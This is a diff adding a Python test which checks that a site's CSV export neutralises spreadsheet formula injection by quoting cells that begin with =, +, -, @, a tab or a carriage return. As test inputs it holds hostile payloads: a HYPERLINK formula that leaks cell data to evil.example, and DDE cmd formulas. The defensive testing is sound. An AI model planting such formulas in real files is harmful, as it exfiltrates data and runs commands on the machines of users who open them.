@@ -132,6 +132,34 @@ def test_export_matches_contract(built_site, catalogue):
     assert rows[0].startswith("id,type,title,summary,url,pdf") and len(rows) == len(data["entries"]) + 1
 
 
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
+    """Issue 26 (OWASP, CSV injection): a cell of catalogue.csv starting with = + - @, a tab or a carriage return
+    gets a single quote in front, so Excel or LibreOffice shows it as text instead of running it."""
+    import csv
+    import io
+    from catalogue.content import load
+    from catalogue.export import catalogue_csv, catalogue_json
+    project = make_project(tmp_path / "p")
+    path = project / "content/indsatser/robusthed.yml"
+    text = path.read_text(encoding="utf-8")
+    title = re.search(r"(?m)^titel: (.*)$", text).group(1)
+    hostile = {"=": '=HYPERLINK("https://evil.example/?"&A1;"klik")', "+": "+1+cmd|' /C calc'!A0", "-": "-2+3",
+               "@": "@SUM(1+1)*cmd|' /C calc'!A0", "\t": "\t=1+1", "\r": "\r=1+1"}
+    for start, value in hostile.items():
+        path.write_text(text.replace(f"titel: {title}", f"titel: {json.dumps(value)}", 1), encoding="utf-8")
+        cat = load(project)
+        assert cat.report.ok, [d.format() for d in cat.report.errors]
+        rows = {r["id"]: r for r in csv.DictReader(io.StringIO(catalogue_csv(catalogue_json(cat))))}
+        shown = " ".join(value.split()) if start in "\t\r" else value  # a one-line title: the loader folds blanks
+        assert rows["robusthed"]["title"] == ("'" + shown if shown.startswith(("=", "+", "-", "@", "\t", "\r")) else shown)
+        for row in rows.values():
+            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row
+    # an ordinary cell is left as it is; a tab or CR first (a summary keeps them) is neutralised as well
+    assert rows["dialogisk-laesning"]["id"] == "dialogisk-laesning"
+    from catalogue.export import csv_cell
+    assert [csv_cell(v) for v in ("\t=1", "\r=1", "a=1", "", None, "2026-01-01")] == ["'\t=1", "'\r=1", "a=1", "", "", "2026-01-01"]
+
+
 def test_content_files_validate_against_published_schema(built_site, catalogue):
     import yaml
     for entry in catalogue.entries.values():
